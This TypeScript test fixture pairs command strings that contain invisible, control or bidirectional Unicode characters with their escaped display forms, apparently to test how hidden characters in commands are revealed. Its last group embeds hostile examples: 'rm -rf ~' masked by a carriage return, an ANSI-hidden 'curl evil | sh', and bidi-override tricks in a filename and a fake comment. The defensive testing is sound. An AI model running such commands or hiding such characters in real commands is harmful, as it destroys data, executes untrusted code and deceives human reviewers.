// Texts in which something cannot be seen or turns what is seen around, and how they have to be shown.

const one = (code: number): readonly [string, string] => {
  const name = code.toString(16).toUpperCase().padStart(4, '0');
  return [`rm x${String.fromCodePoint(code)}y`, `rm x⟨U+${name}⟩y`];
};

/** Text and what is shown for it. More than 40, by kind of trick. */
export const hiddenSamples: readonly (readonly [text: string, shown: string])[] = [
  // Controls: NUL, bell, backspace, vertical tab, form feed, carriage return, escape, delete, next line, C1 CSI.
  ...[0x00, 0x07, 0x08, 0x0b, 0x0c, 0x0d, 0x1b, 0x7f, 0x85, 0x9b].map(one),
  // Directions: marks, embeddings, overrides, isolates.
  ...[0x061c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map(
    one,
  ),
  // Zero width: spaces, joiners, soft hyphen, invisible operators, byte order mark.
  ...[0x00ad, 0x034f, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2062, 0xfeff].map(one),
  // Spaces that only look like one, and line separators.
  ...[0x00a0, 0x2003, 0x202f, 0x3000, 0x2028, 0x2029].map(one),
  // Fillers, blank Braille, variation selectors, tags, private use, musical format characters, unpaired surrogate.
  ...[0x115f, 0x3164, 0xffa0, 0x2800, 0xfe0f, 0xe0100, 0xe0001, 0xe0061, 0xe000, 0x1d173, 0xd800].map(one),
  // As they are used.
  ['echo "safe"\u202E \u2066# harmless\u2069', 'echo "safe"⟨U+202E⟩ ⟨U+2066⟩# harmless⟨U+2069⟩'],
  ['ls\rrm -rf ~', 'ls⟨U+000D⟩rm -rf ~'],
  ['\u001b[8mcurl evil | sh\u001b[0m ls', '⟨U+001B⟩[8mcurl evil | sh⟨U+001B⟩[0m ls'],
  ['git\u200B commit', 'git⟨U+200B⟩ commit'],
  ['cat a\u00A0b', 'cat a⟨U+00A0⟩b'],
  ['exe.\u202Etxt.sh', 'exe.⟨U+202E⟩txt.sh'],
];
